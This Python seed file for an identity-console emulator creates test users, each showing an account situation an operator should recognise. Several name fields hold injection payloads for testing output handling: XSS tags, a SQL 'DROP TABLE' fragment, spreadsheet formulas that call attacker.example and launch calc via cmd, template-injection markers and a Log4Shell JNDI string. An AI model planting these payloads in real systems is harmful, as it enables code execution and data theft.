"""People with a story. Each is one situation that an operator has to recognise; the key says which."""

from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID, uuid5

from console.emulator import outbox
from console.emulator.factories import find_pool, make_user
from console.emulator.overlay import messages
from console.emulator.overlay.passwords import generate
from console.emulator.seeding import pools
from console.emulator.seeding.crowd import identities

NAMESPACE = UUID("8f14e45f-ceea-467f-a0e6-1d2d4a3b1c55")
INVITED = "FORCE_CHANGE_PASSWORD"


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """One person. Ages are in days; `changed` is the last change, by default the creation."""

    key: str
    pool: str
    username: str
    status: str = "CONFIRMED"
    enabled: bool = True
    age: float = 400.0
    changed: float | None = None
    attributes: Mapping[str, str] = field(default_factory=dict)
    groups: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Person:
    """Where a story ended up."""

    pool_id: str
    sub: str
    username: str


def make_people(pool_ids: Mapping[str, str]) -> dict[str, Person]:
    """Make everybody with a story. Returns them by key."""
    return {story.key: _make(story, pool_ids[story.pool]) for story in STORIES}


def _make(story: Story, pool_id: str) -> Person:
    now = datetime.now(UTC)
    created = now - timedelta(days=story.age)
    modified = now - timedelta(days=story.age if story.changed is None else story.changed)
    pool = find_pool(pool_id)
    sub = make_user(
        pool_id,
        story.username,
        status=story.status,
        enabled=story.enabled,
        attributes=_with_identities(story, created),
        groups=story.groups,
        created=created,
        modified=modified,
        sub=str(uuid5(NAMESPACE, story.key)),
        password=generate(pool) if story.status == INVITED else None,
    )
    user: Any = pool.table.with_sub(sub)
    address = story.attributes.get("email", story.username)
    if story.status == INVITED and outbox.is_deliverable(pool_id, address):
        messages.invite(pool, user, ["EMAIL"], sent_at=modified)
    return Person(pool_id, sub, user.username)


def _with_identities(story: Story, created: datetime) -> Mapping[str, str]:
    if story.status != "EXTERNAL_PROVIDER":
        return story.attributes
    provider, _, user_id = story.username.partition("_")
    return {**story.attributes, "identities": identities(provider, user_id, created)}


def _named(given_name: str, family_name: str, **more: str) -> dict[str, str]:
    return {
        "given_name": given_name,
        "family_name": family_name,
        "name": f"{given_name} {family_name}",
        **{name.replace("__", ":"): value for name, value in more.items()},
    }


def _staff(key: str, given_name: str, family_name: str, email: str, *, number: int, **more: Any) -> Story:
    """Somebody in the staff directory, with a verified address unless `verified` says otherwise."""
    attributes = _named(
        given_name,
        family_name,
        email_verified=more.pop("verified", "true"),
        custom__employee_number=str(number),
        custom__department=more.pop("department", "Support"),
        custom__contractor="false",
    )
    return Story(key=key, pool=pools.STAFF, username=email, attributes=attributes, **more)


STORIES = (
    _staff(
        "invited today",
        "Ingrid",
        "Invited",
        "ingrid.invited@staff.example",
        number=7,
        status=INVITED,
        age=0.1,
    ),
    _staff("expires tomorrow", "Tomás", "Tomorrow", "tomas@staff.example", number=8, status=INVITED, age=6.2),
    _staff("expired", "Ekaterina", "Expired", "ekaterina@staff.example", number=9, status=INVITED, age=23),
    _staff(
        "invited twice", "Tuwe", "Twice", "tuwe@staff.example", number=10, status=INVITED, age=40, changed=2
    ),
    _staff(
        "undeliverable",
        "Una",
        "Undeliverable",
        "una@undeliverable.example",
        number=11,
        status=INVITED,
        age=1,
    ),
    _staff(
        "administrator",
        "Adaeze",
        "Administrator",
        "adaeze@staff.example",
        number=12,
        department="Engineering",
        changed=3,
        groups=("administrators", "engineering", "on-call", "everyone"),
    ),
    _staff("disabled", "Dimitri", "Disabled", "dimitri@staff.example", number=13, enabled=False, changed=30),
    _staff(
        "reset required",
        "Rosa",
        "Reset",
        "rosa@staff.example",
        number=14,
        status="RESET_REQUIRED",
        changed=0.4,
    ),
    _staff(
        "federated",
        "Farid",
        "Federated",
        "Google_110169484474386276334",
        number=15,
        status="EXTERNAL_PROVIDER",
        groups=("everyone",),
    ),
    _staff("not verified", "Nia", "Notverified", "nia@staff.example", number=16, verified="false"),
    _staff(
        "disabled invitation",
        "Daria",
        "Dropped",
        "daria@staff.example",
        number=17,
        status=INVITED,
        age=2,
        enabled=False,
    ),
    _staff(
        "script",
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(2)>',
        "mallory@staff.example",
        number=18,
    ),
    _staff("quotes", 'Robert"); DROP TABLE', 'O\'Brien \\ "Bob"', "bobby@staff.example", number=19),
    _staff(
        "formula",
        '=HYPERLINK("https://attacker.example","Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "calc@staff.example",
        number=20,
    ),
    _staff("right to left", "مريم", "\u202eesrever\u202c אברהם", "maryam@staff.example", number=21),
    _staff("emoji", "👩🏽‍🚀", "Ünïcødé 🦭 Z̶a̶l̶g̶o̶", "astro@staff.example", number=22),
    _staff("very long", "Wolfeschlegelsteinhausen" * 85, "L" * 2048, "long@staff.example", number=23),
    _staff("template", "{{ 7*7 }}{% debug %}", "${jndi:ldap://x}", "template@staff.example", number=24),
    Story(
        key="unconfirmed",
        pool=pools.CUSTOMERS,
        username="ulla",
        status="UNCONFIRMED",
        age=1.5,
        attributes=_named("Ulla", "Unconfirmed", email="ulla@customers.example", email_verified="false"),
    ),
    Story(
        key="alias",
        pool=pools.CUSTOMERS,
        username="customer-0042",
        age=200,
        attributes=_named(
            "Alia",
            "Alias",
            email="alia@customers.example",
            email_verified="true",
            preferred_username="alia",
            custom__loyalty_points="1250",
        ),
        groups=("gold",),
    ),
    Story(
        key="same address",
        pool=pools.CUSTOMERS,
        username="customer-0043",
        age=150,
        attributes=_named("Alia", "Again", email="alia@customers.example", email_verified="false"),
    ),
    Story(
        key="lost phone",
        pool=pools.CUSTOMERS,
        username="customer-0044",
        attributes=_named("Lotte", "Lostphone", email="lotte@customers.example", email_verified="true"),
    ),
    Story(
        key="wrong password",
        pool=pools.CUSTOMERS,
        username="customer-0045",
        attributes=_named("Wanda", "Wrong", email="wanda@customers.example", email_verified="true"),
    ),
    Story(
        key="provider gone",
        pool=pools.CUSTOMERS,
        username="OldShop_4711",
        status="EXTERNAL_PROVIDER",
        attributes=_named("Wanda", "Wrong", email="wanda@customers.example"),
    ),
    Story(
        key="no e-mail",
        pool=pools.PARTNERS,
        username="warehouse-7",
        age=90,
        attributes={
            "name": "Warehouse 7, gate",
            "phone_number": "+351210000007",
            "phone_number_verified": "true",
        },
    ),
    Story(key="nothing at all", pool=pools.PARTNERS, username="kiosk", age=12),
    Story(
        key="invited by text message",
        pool=pools.PARTNERS,
        username="courier",
        status=INVITED,
        age=1,
        attributes={"phone_number": "+351910000001", "phone_number_verified": "true"},
    ),
    Story(
        key="only telephone",
        pool=pools.PARTNERS,
        username="field.agent",
        age=33,
        attributes=_named("Fela", "Agent", phone_number="+2348030000000", phone_number_verified="true"),
    ),
    Story(
        key="case twin",
        pool=pools.LEGACY,
        username="Maria",
        age=3_000,
        attributes=_named("Maria", "Upper", email="maria@legacy.example", email_verified="true"),
    ),
    Story(
        key="case twin, lower",
        pool=pools.LEGACY,
        username="maria",
        age=2_900,
        attributes=_named("maria", "lower", email="maria@legacy.example", email_verified="true"),
    ),
    Story(
        key="long invitation",
        pool=pools.LEGACY,
        username="patience",
        status=INVITED,
        age=20,
        attributes=_named("Patience", "Waits", email="patience@legacy.example", email_verified="true"),
    ),
)
